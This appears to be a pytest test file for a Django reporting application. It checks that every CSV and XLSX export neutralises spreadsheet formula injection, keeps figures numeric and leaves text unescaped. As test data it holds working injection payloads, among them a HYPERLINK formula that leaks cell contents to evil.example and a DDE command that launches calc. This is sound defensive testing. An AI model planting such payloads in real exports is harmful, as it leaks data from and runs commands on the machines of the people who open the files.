"""Exports that cannot run: every CSV and XLSX export of the application, opened as a
spreadsheet would open it, holds no cell that a spreadsheet would calculate, whatever people
typed; numbers stay numbers; and text is text, not HTML.

Hostile text is typed where people type (a report's author, a metric's caveat, a pack's
commentary and highlights, a portfolio narrative, a scheme's name), then every export is
downloaded by the people who may download it.
"""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest
from django.test import Client

from bettercare.demo import load_demo
from bettercare.exports import neutralised
from bettercare.models import Scheme
from metrics.models import Metric, MetricValue
from reports.models import Pack, PackMetric, PortfolioRating
from reports.services import pack_text_save
from schemes.models import HighlightReport

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the report")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+44 20 7946 0000 (call to confirm)"
AT = "@SUM(1+1)"
TAB = "\t=1+1"
MINUS = "-1+1 were missed"
APOSTROPHE = "Don't & won't <yet>"
HOSTILE = [LINK, DDE, PLUS, AT, TAB, MINUS]
_HTML_ESCAPE = re.compile(r"&(#x?[0-9a-fA-F]+|amp|lt|gt|quot|apos);")


@pytest.mark.parametrize(
    ("typed", "exported"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "+1"),  # a number
        ("-33000.50", "-33000.50"),
        ("-1,234", "-1,234"),
        ("-£33k", "'-£33k"),
        ("@here", "'@here"),
        ("\t=A1", "'\t=A1"),
        ("\r=A1", "'\r=A1"),
        ("Plain text", "Plain text"),
        ("", ""),
        (-33000, -33000),
        (None, None),
    ],
)
def test_a_cell_a_spreadsheet_would_calculate_becomes_text(typed, exported):
    assert neutralised(typed) == exported


def _typed_everywhere(area):
    HighlightReport.objects.filter(scheme__area=area).update(report_author=LINK)
    Scheme.objects.filter(area=area, number=1).update(name=AT)
    Scheme.objects.filter(area=area, number=2).update(name=MINUS)
    august = MetricValue.objects.filter(area=area, period="2018-08", series="actual")
    august.filter(metric__code="nel_admissions").update(note=DDE)
    august.filter(metric__code="dtoc_rate").update(note=APOSTROPHE)
    august.filter(metric__code="dtoc_delayed_days").update(note=TAB)
    PortfolioRating.objects.filter(scheme__area=area).update(narrative=PLUS)
    pack = Pack.objects.get(area=area, board="JCB")
    priorities = list(area.priorities.all())
    pack_text_save(
        pack=pack,
        text={},
        highlights={priority.pk: f"{APOSTROPHE} {LINK}" for priority in priorities[:1]}
        | {priority.pk: LINK for priority in priorities[1:]},
    )
    for metric in Metric.objects.filter(code__in=["nel_admissions", "dtoc_rate"]):
        PackMetric.objects.update_or_create(
            pack=pack, metric=metric, defaults={"commentary": LINK if "nel" in metric.code
                                                else APOSTROPHE},
        )
    return pack


def _cells(url, response) -> list[list]:
    content_type = response["Content-Type"]
    if "csv" in content_type:
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert "spreadsheetml" in content_type, (url, content_type)
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    rows = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"a live formula in {sheet.title}!{cell.coordinate}"
            rows.append([cell.value for cell in row])
    return rows


def test_every_export_neutralises_formulas_keeps_numbers_and_is_not_html():
    area = load_demo(log=lambda line: None)
    pack = _typed_everywhere(area)
    exports = {
        "analyst": [
            "/schemes/overview/?quarter=2017-18-Q4&_export=csv",
            "/schemes/overview/?quarter=2017-18-Q4&_export=xlsx",
            "/metrics/?month=2018-08&_export=csv",
            "/metrics/?month=2018-08&_export=xlsx",
            "/finance/position/?month=2018-08&_export=csv",
            "/finance/position/?month=2018-08&_export=xlsx",
            "/reports/portfolio/?quarter=2018-19-Q2&_export=xlsx",
            "/reports/return/return.xlsx?quarter=2018-19-Q2",
        ],
        "secretary": [
            f"/reports/packs/{pack.pk}/tables.xlsx",
            f"/reports/packs/{pack.pk}/tables.xlsx?version=public",
        ],
    }
    found: set[str] = set()
    numbers = 0
    for username, urls in exports.items():
        client = Client()
        client.force_login(area.members.get(username=username))
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, url
            for row in _cells(url, response):
                for value in row:
                    if isinstance(value, int | float):
                        numbers += 1
                    if not isinstance(value, str):
                        continue
                    assert not (value.startswith(("=", "+", "@", "\t", "\r"))
                                and neutralised(value) != value), (url, value)
                    assert not value.startswith("-") or neutralised(value) == value, (url, value)
                    assert not _HTML_ESCAPE.search(value), (url, value)
                    found.update(text for text in (*HOSTILE, APOSTROPHE) if text in value)
    # The hostile text really reached the exports (as text), the apostrophe unescaped...
    assert found == {*HOSTILE, APOSTROPHE}
    # ...and figures are numbers a spreadsheet can add up, not text.
    assert numbers > 50


def test_the_quarter_overview_csv_has_the_authors_text_as_text(login, analyst, lead, carers):
    from bettercare.periods import parse_quarter
    from schemes.services import highlight_report_start

    quarter = parse_quarter("2018-19-Q2")
    carers.area.current_quarter = quarter
    carers.area.save()
    report = highlight_report_start(scheme=carers, quarter=quarter, user=lead)
    HighlightReport.objects.filter(pk=report.pk).update(report_author=LINK)
    response = login(analyst).get("/schemes/overview/?quarter=2018-19-Q2&_export=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + LINK in cells
    assert LINK not in cells


def _views(patterns):
    for pattern in patterns:
        if hasattr(pattern, "url_patterns"):
            yield from _views(pattern.url_patterns)
        else:
            yield getattr(pattern.callback, "view_class", None)


def test_every_table_export_view_uses_the_safe_export():
    from django.urls import get_resolver
    from django_tables2.export import ExportMixin

    from bettercare.exports import SafeTableExport

    exporting = [view for view in _views(get_resolver().url_patterns)
                 if view is not None and issubclass(view, ExportMixin)]
    assert len(exporting) >= 3  # the quarter overview, the dashboard, the finance position
    for view in exporting:
        assert issubclass(view.export_class, SafeTableExport), view
